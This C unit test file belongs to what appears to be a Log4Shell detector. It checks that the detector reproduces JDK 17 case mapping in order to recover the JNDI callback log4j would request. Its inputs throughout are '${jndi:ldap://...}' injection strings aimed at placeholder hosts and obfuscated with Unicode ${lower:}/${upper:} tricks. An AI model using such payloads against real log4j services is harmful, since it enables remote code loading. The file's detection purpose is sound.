/*
 * test_casemap.c -- ${lower:...}, ${upper:...} and the Interpolator's prefix
 * lower-casing as the victim's JDK 17 does them (String.toLowerCase/
 * toUpperCase(Locale.US), Unicode 13), through the emulator and through
 * lib/casemap.c directly.  Every expected value was produced by OpenJDK
 * 17.0.15 (echo HEX | java CaseMapOracle map, tests/tools/CaseMapOracle.java);
 * tests/e2e/casemap_jdk.sh compares every code point and random strings.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "internal.h"

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct got {
    int njndi;
    char cb[256];
} got;

static int collect(const defuse_finding *f, void *user) {
    got *g = user;
    if (f->kind == DEFUSE_KIND_JNDI) {
        g->njndi++;
        snprintf(g->cb, sizeof g->cb, "%s", f->callback ? f->callback : "");
    }
    return 0;
}

/* Asserts that log4j requests exactly one JNDI name for in, namely want. */
static void expect_callback(const char *in, const char *want) {
    defuse_scanner *sc = NULL;
    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
    got g = {0, ""};
    int rc =
        defuse_scan(sc, in, strlen(in), DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, collect, &g);
    defuse_scanner_free(sc);
    assert_true(rc >= 0);
    assert_int_equal(g.njndi, 1);
    assert_string_equal(g.cb, want);
}

/* Letters that Unicode 14 gave a case pair and JDK 17 (Unicode 13) does not
 * know: ICU 72 lower-cases U+2C2F to U+2C5F and U+A7C0 to U+A7C1, so the
 * callback log4j requests on JDK 17 keeps the capital. */
static void test_unicode14_letters_unmapped(void **state) {
    (void)state;
    expect_callback("${jndi:ldap://x${lower:\xe2\xb0\xaf}y/a}", "ldap://x\xe2\xb0\xafy/a");
    expect_callback("${jndi:ldap://${lower:\xea\x9f\x80}.x/a}", "ldap://\xea\x9f\x80.x/a");
    expect_callback("${jndi:ldap://x/${upper:\xe2\xb1\x9f}}", "ldap://x/\xe2\xb1\x9f");
    /* Unicode 15's Cyrillic Extended-D modifier letter U+1E030: unchanged. */
    expect_callback("${jndi:ldap://x/${upper:\xf0\x9e\x80\xb0}}", "ldap://x/\xf0\x9e\x80\xb0");
}

/* Java's final sigma (ConditionalSpecialCasing.isFinalCased): a cased
 * letter earlier in the same word (its word BreakIterator), none later. */
static void test_final_sigma_java_rule(void **state) {
    (void)state;
    /* A1Σ -> a1ς: digits join the word (Unicode's rule says σ). */
    expect_callback("${jndi:ldap://x/${lower:A1\xce\xa3}}", "ldap://x/a1\xcf\x82");
    /* AΣ-B -> aσ-b: a dash inside a word (Unicode's rule says ς). */
    expect_callback("${jndi:ldap://x/${lower:A\xce\xa3-B}}", "ldap://x/a\xcf\x83-b");
    /* AΣ -> aς; Σ alone -> σ; AΣ B -> aς b. */
    expect_callback("${jndi:ldap://x/${lower:A\xce\xa3}}", "ldap://x/a\xcf\x82");
    expect_callback("${jndi:ldap://x/${lower:\xce\xa3}}", "ldap://x/\xcf\x83");
    expect_callback("${jndi:ldap://x/${lower:A\xce\xa3 B}}", "ldap://x/a\xcf\x82 b");
}

/* defuse__casemap(in) in one direction equals want (bytes, want_len). */
static void expect_map(const char *in, size_t n, bool upper, const char *want, size_t want_len) {
    char out[64];
    assert_true(n * DEFUSE__CASEMAP_GROWTH <= sizeof out);
    size_t len = defuse__casemap(in, n, upper, out);
    assert_true(len <= n * DEFUSE__CASEMAP_GROWTH);
    if (len != want_len || memcmp(out, want, len) != 0)
        fail_msg("%s of %zu bytes: got %zu bytes, want %zu", upper ? "upper" : "lower", n, len,
                 want_len);
}
#define LOWER(in, want) expect_map(in, sizeof in - 1, false, want, sizeof want - 1)
#define UPPER(in, want) expect_map(in, sizeof in - 1, true, want, sizeof want - 1)
#define FFFD "\xef\xbf\xbd"

/* One-to-many mappings of the JDK's SpecialCasing. */
static void test_expansions(void **state) {
    (void)state;
    LOWER("\xc4\xb0", "i\xcc\x87");                /* U+0130 -> i U+0307 */
    UPPER("\xc3\x9f", "SS");                       /* U+00DF */
    UPPER("\xc5\x89", "\xca\xbcN");                /* U+0149 -> U+02BC N */
    UPPER("\xce\x90", "\xce\x99\xcc\x88\xcc\x81"); /* U+0390: 3 code points */
    UPPER("\xef\xac\x80\xef\xac\x83", "FFFFI");    /* U+FB00 U+FB03 */
    LOWER("\xc4\xb1I", "\xc4\xb1i");               /* dotless i stays */
    UPPER("\xc4\xb1i", "II");
    LOWER("\xe2\x84\xaa", "k");                    /* Kelvin sign */
    UPPER("\xf0\x90\x90\xa8", "\xf0\x90\x90\x80"); /* Deseret */
    LOWER("\xe1\x8e\xa0", "\xea\xad\xb0");         /* Cherokee U+13A0 -> U+AB70 */
    UPPER("\xef\xbd\x81", "\xef\xbc\xa1");         /* fullwidth a */
    LOWER("ABC", "abc");
    UPPER("abc", "ABC");
}

/* Malformed UTF-8: one U+FFFD per malformed subsequence, as new
 * String(bytes, UTF_8) of JDK 17 delimits them. */
static void test_malformed_utf8(void **state) {
    (void)state;
    LOWER("\xc0\xaf", FFFD FFFD);                   /* overlong 2-byte */
    LOWER("\xe0\x80\xaf", FFFD FFFD FFFD);          /* overlong 3-byte */
    LOWER("\xed\xa0\x80", FFFD);                    /* a surrogate: one for three */
    LOWER("\xed\xa0\x80\xed\xb0\x80", FFFD FFFD);   /* CESU pair */
    LOWER("\xf0\x80\x80\x80", FFFD FFFD FFFD FFFD); /* overlong 4-byte */
    LOWER("\xf4\x90\x80\x80", FFFD FFFD FFFD FFFD); /* above U+10FFFF */
    LOWER("\xe2\x82", FFFD);                        /* truncated by the end */
    LOWER("\xe2\x82"
          "A",
          FFFD "a");
    LOWER("\xf0\x9f\x98", FFFD);
    LOWER("\xf0\x9f\x98"
          "A",
          FFFD "a");
    LOWER("\xbf\x80", FFFD FFFD);
    LOWER("\xf0\x8f", FFFD FFFD);
    LOWER("\xf0\x90", FFFD);
    LOWER("\xf8\x88\x80\x80", FFFD FFFD FFFD FFFD);
}

/* The growth bound holds for the largest growths: 1 byte -> U+FFFD, and
 * U+0390 (2 bytes) -> 6 bytes. */
static void test_growth_bound(void **state) {
    (void)state;
    char in[20], out[60];
    memset(in, 0x80, sizeof in);
    assert_int_equal(defuse__casemap(in, sizeof in, false, out), sizeof out);
    for (size_t i = 0; i < sizeof in; i += 2)
        memcpy(in + i, "\xce\x90", 2);
    assert_int_equal(defuse__casemap(in, sizeof in, true, out), sizeof out);
    assert_non_null(strstr(defuse_casemap_jdk(), "17."));
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_unicode14_letters_unmapped),
        cmocka_unit_test(test_final_sigma_java_rule),
        cmocka_unit_test(test_expansions),
        cmocka_unit_test(test_malformed_utf8),
        cmocka_unit_test(test_growth_bound),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
